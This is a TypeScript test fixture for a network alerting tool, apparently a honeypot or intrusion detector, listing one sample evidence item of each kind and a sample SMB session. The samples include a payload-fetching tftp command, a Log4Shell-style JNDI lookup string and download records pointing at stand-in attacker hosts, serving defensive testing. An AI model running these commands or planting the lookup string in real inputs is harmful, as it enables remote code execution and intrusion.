/** Events, evidence and sessions the alert tests share: one evidence item of every kind. */
import type { EvidenceItem } from '../../src/alert/index.ts';
import type { Session } from '../../src/core/index.ts';

export const SHA = 'a'.repeat(64);

export const EVERY_EVIDENCE: EvidenceItem[] = [
  { kind: 'connect', proto: 'tcp', dest_ip: '198.51.100.7', dest_port: 4444, bytes_sent: 12, first_bytes_hex: '4d5a90', sha256: SHA, summary: 'connect 198.51.100.7:4444', origin: 'shellcode' },
  { kind: 'listen', proto: 'tcp', port: 4444, origin: 'shellcode' },
  { kind: 'dns', qname: 'evil.example', qtype: 'A', answer: '198.51.100.53', via: 'udp' },
  { kind: 'download', protocol: 'http', url: 'http://198.51.100.7/x.exe', bytes: 73_802, sha256: SHA },
  { kind: 'exec', shell: 'cmd', command: 'cmd.exe /c tftp -i 198.51.100.7 GET x.exe', origin: 'shellcode' },
  { kind: 'icmp', dest_ip: '198.51.100.9', count: 4, payload_bytes: 128 },
  { kind: 'exploit', vulnerability: 'MS08-067', service: 'smb', detail: 'NetprPathCanonicalize path of 612 bytes', vulnerable: true, offset: 310 },
  { kind: 'code', service: 'smb', vulnerability: 'MS08-067', os: 'windows', bits: 32, sha256: SHA, instructions: 51_234, end_reason: 'exit', calls: ['connect 198.51.100.7:4444'] },
  { kind: 'file', path: 'C:\\WINDOWS\\system32\\x.exe', bytes: 73_802, sha256: SHA },
  { kind: 'implant', name: 'DoublePulsar' },
  { kind: 'lookup', expression: '${jndi:ldap://198.51.100.7/a}', resolved: 'ldap://198.51.100.7/a', origin: 'jndi' },
  { kind: 'udp', dest_ip: '198.51.100.7', dest_port: 53, bytes: 40, first_bytes_hex: 'abcd' },
  { kind: 'http', method: 'GET', host: 'evil.example', url: '/x.exe', user_agent: 'Wget/1.21', dest_ip: '198.51.100.7', dest_port: 80 },
  { kind: 'tls', sni: 'evil.example', alpn: ['h2'], dest_ip: '198.51.100.7', dest_port: 443 },
  { kind: 'ftp', command: 'RETR', argument: 'x.exe' },
  { kind: 'ldap', operation: 'search', base_dn: 'a', dest_ip: '198.51.100.7', dest_port: 389 },
  { kind: 'rmi', strings: ['Exploit'] },
  { kind: 'answered', what: 'bind shell banner on 4444' },
  { kind: 'signature', id: 1_800_000, message: 'crashtest learned: MS17-010 compromised a microsoft-ds dummy', matched_by: 'payload_key' },
];

export function sampleSession(turns: Session['turns'] = []): Session {
  const stats = { frames: 0, bytes: 0, payloadBytes: 0, missingBytes: 0 };
  return {
    id: 42,
    proto: 'tcp',
    client: { ip: '203.0.113.5', port: 1042, mac: 0x0200_0000_0001, ttl: 64 },
    server: { ip: '10.0.0.8', port: 445, mac: 0x0200_0000_0002, ttl: 128 },
    vlan: -1,
    innerVlan: -1,
    startSeconds: 1_700_000_000,
    startNanoseconds: 0,
    endSeconds: 1_700_000_001,
    endNanoseconds: 0,
    toServer: stats,
    toClient: stats,
    midstream: false,
    truncated: false,
    endReason: 'fin',
    turns,
    anomalies: [],
  };
}
